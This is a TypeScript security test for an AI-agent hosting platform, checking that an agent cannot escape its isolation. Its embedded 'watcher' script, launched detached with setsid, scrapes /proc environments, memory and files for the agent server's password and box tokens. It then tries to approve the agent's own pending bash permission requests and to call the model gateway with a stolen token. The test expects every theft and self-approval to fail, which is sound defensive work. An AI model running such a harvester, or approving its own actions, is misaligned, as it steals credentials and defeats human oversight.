import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { box } from "../../../schema/stack/stack.ts";
import { eventually } from "../../harness/eventually.ts";
import { limit } from "../../harness/suite/limit.ts";
import { times } from "../../harness/suite/long-run.ts";
import { startDaemon } from "../ground.ts";
import { callHost, newPerson, placeStack, putStack, signStackTicket } from "../runner-client.ts";
import { agent, callOpenCode, openShell, registerSession, runAsUser, stopAgent } from "./neighbours.ts";

/**
 * An agent that wants to answer its own question: a watcher of its own making reads all that its user can
 * read, as fast as it can, while its server searches, commits, opens terminals, summarises, starts and stops.
 * With what it finds it says yes to what the member is asked.
 */
const person = newPerson();
const me = agent(person.agent, 0);
const tries = Number(process.env.STEAL_TRIES ?? times({ few: 3, all: 8 }));
const here = encodeURIComponent(me.work);
let daemon: Awaited<ReturnType<typeof startDaemon>>;
let generation = 0;
let address = "";

/**
 * Reads environments, command lines, open files, maps and memory of every process, and files; then answers,
 * and calls a model.
 */
const watcher = `
const fs = require("fs"), http = require("http"), { execFile } = require("child_process");
const home = process.env.HOME, found = { password: "", token: "" };
const note = (text) => fs.appendFileSync(home + "/stolen", text + "\\n");
const own = (dir) => { try { return fs.readdirSync(dir, { recursive: false }).map((name) => dir + "/" + name); } catch { return []; } };
const read = (file) => { try { const fd = fs.openSync(file, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK); try { const all = Buffer.alloc(1 << 16); return all.subarray(0, fs.readSync(fd, all)).toString("latin1"); } finally { fs.closeSync(fd); } } catch { return ""; } };
const link = (file) => { try { return fs.readlinkSync(file); } catch { return ""; } };
const look = (text) => {
  const password = /OPENCODE_SERVER_PASSWORD=([\\w-]{20,})/.exec(text)?.[1], token = /gqb_[\\w-]{20,}/.exec(text)?.[0];
  if (password && password !== found.password) { found.password = password; note("password " + password); }
  if (token && token !== found.token) { found.token = token; note("token " + token); call(); }
};
const memory = (pid) => {
  for (const line of read("/proc/" + pid + "/maps").split("\\n").filter((each) => / rw/.test(each)).slice(0, 20)) {
    const [from, to] = line.split(" ")[0].split("-").map((each) => parseInt(each, 16));
    try { const fd = fs.openSync("/proc/" + pid + "/mem", "r"); try { const all = Buffer.alloc(Math.min(to - from, 1 << 20)); fs.readSync(fd, all, 0, all.length, from); look(all.toString("latin1")); } finally { fs.closeSync(fd); } } catch {}
  }
};
const ask = (method, path, body, done) => {
  for (const host of ["127.0.0.1", "ADDRESS"]) {
    const request = http.request({ host, port: PORT, method, path, timeout: 500, headers: { authorization: "Basic " + Buffer.from("opencode:" + found.password).toString("base64"), "content-type": "application/json" } }, (response) => {
      let text = ""; response.on("data", (part) => { text += part; }); response.on("end", () => done(response.statusCode, text));
    });
    request.on("error", () => {}); request.end(body);
  }
};
const answered = new Set();
const answer = () => ask("GET", "/permission?directory=" + encodeURIComponent("WORK"), undefined, (status, text) => {
  if (status === 200) for (const { id } of JSON.parse(text)) if (!answered.has(id)) { answered.add(id); ask("POST", "/permission/" + id + "/reply?directory=" + encodeURIComponent("WORK"), JSON.stringify({ reply: "once" }), (code) => note("answered " + id + " " + code)); }
});
const call = () => { const request = http.get({ host: "gateway", port: 8080, path: "/ai/v1/models", headers: { authorization: "Bearer " + found.token } }, (response) => { response.resume(); note("model " + response.statusCode); }); request.on("error", () => {}); };
let self = String(process.pid), round = 0;
setInterval(() => { if (found.password) answer(); }, 50);
const loop = () => {
  for (let n = 0; n < 20; n++) {
    for (const folder of own("/proc")) {
      const pid = folder.slice(6); if (!/^\\d+$/.test(pid) || pid === self) continue;
      look(read(folder + "/environ") + "\\n" + read(folder + "/cmdline"));
      if (n % 5 === 0) { look(read(folder + "/maps")); for (const file of own(folder + "/fd")) if (/^\\//.test(link(file))) look(read(file)); }
    }
  }
  round += 1;
  if (round % 10 === 0) {
    for (const folder of own("/proc")) if (/^\\d+$/.test(folder.slice(6)) && folder.slice(6) !== self) memory(folder.slice(6));
    const places = [home, home + "/.tmp", home + "/.local/share/opencode", home + "/.local/share/opencode/log", home + "/.cache/opencode", "/workspace", "/workspace/agents", "/workspace/servers/" + home.split("/").pop(), "/tmp", "/run", "/proc/net", "/opt/growqr/config"];
    for (const file of places.flatMap(own)) if (!/stolen|watch/.test(file)) look(read(file));
    fs.writeFileSync(home + "/rounds.next", String(round)); fs.renameSync(home + "/rounds.next", home + "/rounds"); // nobody reads half of it
  }
  setImmediate(loop);
};
loop();`;

const noted = z.array(z.looseObject({ id: z.string(), sessionID: z.string() }));
const opencode = (method: string, path: string, body?: unknown) => callOpenCode(person, me, method, path, body);
const pending = async () => (await opencode("GET", `/permission?directory=${here}`)).json(noted);
/** The lines of a file in the agent's home; none where there is no such file. */
async function lines(name: string): Promise<string[]> {
  const { code, out, err } = await runAsUser(person, me, `[ ! -e ~/${name} ] || cat ~/${name}`);
  if (code !== 0) throw new Error(`${name} was not read: ${code} ${err}`); // else an unread file would be one in which nothing was stolen
  return out.split("\n").filter(Boolean);
}
async function start(): Promise<void> {
  generation += 1;
  const permission = { "*": "allow", bash: "ask", external_directory: "deny" };
  const body = { generation, name: "Agent", prompt: `You work ${generation}.`, permission };
  const answer = await callHost("PUT", `/stacks/${person.member}/agents/${me.id}`, { ticket: await signStackTicket(person), body });
  if (answer.status !== 200) throw new Error(answer.text);
}
/** Runs in the agent's shell, in a session of its own, and goes on when the command has ended. */
async function watch(): Promise<void> {
  const script = watcher.replaceAll("PORT", String(me.port)).replaceAll("WORK", me.work).replaceAll("ADDRESS", address);
  const shell = await openShell(person, me);
  await shell(`cat >~/watch.js <<'EOF'\n${script}\nEOF\nrm -f ~/rounds; (setsid node ~/watch.js >~/watch.log 2>&1 </dev/null &)`);
  await eventually("it watches", async () => (await lines("rounds")).length > 0);
}

/** The calls by which a server starts processes; none of them needs an approval. */
async function work(turn: number): Promise<void> {
  const find = ["/find?pattern=need&", "/find/file?query=a&", "/vcs/status?", "/vcs/diff?mode=git&", "/vcs?", "/mcp?", "/file/status?"];
  for (const path of find) await opencode("GET", `${path}directory=${here}`);
  const terminal = await opencode("POST", `/pty?directory=${here}`, { title: `t${turn}` });
  const made = z.looseObject({ id: z.string() }).safeParse(terminal.status === 200 ? JSON.parse(terminal.text) : {});
  if (made.success) await opencode("DELETE", `/pty/${made.data.id}?directory=${here}`);
}

/** One question to the member, with its searches before it. Answers the session and when it is asked. */
async function question(turn: number): Promise<string> {
  const made = await opencode("POST", `/session?directory=${here}`, { title: `t${turn}` });
  const session = made.json(z.looseObject({ id: z.string() })).id;
  await registerSession(person, session, me);
  const steps = [
    { tool: "grep", args: { pattern: "needle" } },
    { tool: "glob", args: { pattern: "**/*.md" } },
    { tool: "bash", args: { command: `touch ran-${turn}; git add -A; git commit -qm t${turn}`, description: "asked" } },
    { text: "Done." },
  ];
  const parts = [{ type: "text", text: `SCRIPT:${JSON.stringify(steps)}END` }];
  await opencode("POST", `/session/${session}/prompt_async?directory=${here}`, { parts });
  return session;
}

async function attempt(turn: number): Promise<{ answered: boolean; ran: boolean }> {
  const session = await question(turn);
  const mine = async () => (await pending()).find((each) => each.sessionID === session);
  const ran = async () => (await runAsUser(person, me, `test -e ran-${turn}`)).code === 0;
  const answers = async () => (await lines("stolen")).filter((line) => line.startsWith("answered")).length;
  const before = await answers();
  const settled = async () => (await mine()) !== undefined || (await ran()) || (await answers()) > before;
  await eventually("the question is asked, or was answered", settled, 60_000);
  await work(turn);
  const open = await mine();
  const done = { answered: open === undefined, ran: await ran() };
  if (open) await opencode("POST", `/permission/${open.id}/reply?directory=${here}`, { reply: "reject", message: "No." });
  await opencode("POST", `/session/${session}/abort?directory=${here}`);
  await opencode("POST", `/session/${session}/summarize?directory=${here}`, { providerID: box.provider, modelID: box.model, auto: false });
  return done;
}

beforeAll(async () => {
  daemon = await startDaemon();
  await placeStack(person);
  expect((await putStack(person, 1, "running")).stack?.observed).toBe("running");
  await start();
  const { out } = await runAsUser(person, me, "tail -1 /etc/hosts; git init -q; echo needle >a.md; git add -A; git commit -qm first");
  address = out.split(/\s/)[0] ?? "";
});
afterAll(async () => {
  await putStack(person, 9, "stopped", { ceiling: "erased", ceilingRev: 1000 });
  await daemon?.stop();
});

describe("an agent that watches all it can see", () => {
  it(
    "finds neither its server's password nor its box token, and answers no question of its own",
    async () => {
      const results: { answered: boolean; ran: boolean }[] = [];
      for (let turn = 0; turn < tries; turn += 1) {
        if (turn % 10 === 0) {
          if (turn > 0) await stopAgent(person, me);
          await start();
          await watch();
        }
        results.push(await attempt(turn));
      }
      const stolen = await lines("stolen");
      const figures = {
        tries,
        rounds: Number((await lines("rounds"))[0]),
        passwords: stolen.filter((line) => line.startsWith("password")).length,
        tokens: stolen.filter((line) => line.startsWith("token")).length,
        models: stolen.filter((line) => line === "model 200").length,
        answered: results.filter((each) => each.answered).length,
        ran: results.filter((each) => each.ran).length,
      };
      process.stdout.write(`steal: ${JSON.stringify(figures)}\n`);
      expect(figures.rounds).toBeGreaterThan(10);
      expect(figures).toMatchObject({ passwords: 0, tokens: 0, models: 0, answered: 0, ran: 0 });
    },
    limit(60_000 + tries * 20_000),
  );
});
